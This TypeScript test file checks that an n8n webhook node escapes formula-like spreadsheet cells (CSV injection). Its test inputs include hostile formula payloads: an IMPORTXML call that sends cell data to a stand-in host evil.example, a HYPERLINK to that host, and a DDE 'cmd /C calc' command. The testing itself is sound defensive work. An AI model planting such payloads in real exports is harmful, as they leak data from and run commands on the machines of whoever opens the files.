/**
 * Flat Row text cells that a spreadsheet would run as a formula get a
 * leading `'` (OWASP's CSV-injection advice), on by default; numbers and phone numbers stay.
 */
import type { IDataObject, INodeExecutionData } from 'n8n-workflow';

import { escapeFormulaCell } from '../../../../nodes/shared/formulaCells';
import { runWebhook } from '../../../helpers/fakeContext';

import { whatsapp, widget } from './samples';

describe('escapeFormulaCell', () => {
	it.each([
		'=IMPORTXML("https://evil.example/?"&A1, "//a")',
		'=1+1',
		'+SUM(A1:A9)',
		"-2+3+cmd|' /C calc'!A0",
		'@SUM(1)',
		'\t=1',
		'\r=1',
		'-',
		'+',
		'- a list item',
		'+34 612 345 678 call me',
	])('prefixes %j', (value) => {
		expect(escapeFormulaCell(value)).toBe(`'${value}`);
	});

	it.each([
		'+34612345678',
		'+34 612 345 678',
		'+1 (555) 123-4567',
		'-12.5',
		'-1,5',
		'0',
		'John',
		' =1',
		"'=1",
		'',
	])('leaves %j as it is', (value) => {
		expect(escapeFormulaCell(value)).toBe(value);
	});

	it.each([12, -3, true, null])('leaves the non-text value %p as it is', (value) => {
		expect(escapeFormulaCell(value)).toBe(value);
	});
});

describe('the option in the trigger', () => {
	const hostile = () => ({
		...widget(),
		customer_name: '=IMPORTXML("https://evil.example/?"&A1, "//a")',
		extracted_variables: {
			summary: '@SUM(1)',
			budget: -45,
			note: { text: '+HYPERLINK("https://evil.example")' },
		},
	});
	const flatRow = async (options: IDataObject, body: IDataObject = hostile()) => {
		const { result } = await runWebhook({ body, parameters: { outputShape: 'flatRow', options } });
		return (result.workflowData as INodeExecutionData[][])[0][0].json;
	};

	it('is on by default: every formula-like text cell of the flat row is escaped', async () => {
		expect(await flatRow({})).toMatchObject({
			customer_name: '\'=IMPORTXML("https://evil.example/?"&A1, "//a")',
			summary: "'@SUM(1)",
			budget: -45,
			note_text: '\'+HYPERLINK("https://evil.example")',
		});
	});

	it('keeps phone numbers as they are', async () => {
		expect(await flatRow({}, whatsapp())).toMatchObject({
			customer_phone: '+34612345678',
			sender_phone_number: '+34910000000',
		});
	});

	it('can be switched off: the values as sent', async () => {
		expect(await flatRow({ escapeFormulas: false })).toMatchObject({
			customer_name: hostile().customer_name,
			summary: '@SUM(1)',
		});
	});

	it('leaves the other shapes as sent', async () => {
		for (const outputShape of ['conversation', 'messages']) {
			const { result } = await runWebhook({ body: hostile(), parameters: { outputShape } });
			expect((result.workflowData as INodeExecutionData[][])[0][0].json.customer_name).toBe(
				hostile().customer_name,
			);
		}
	});
});
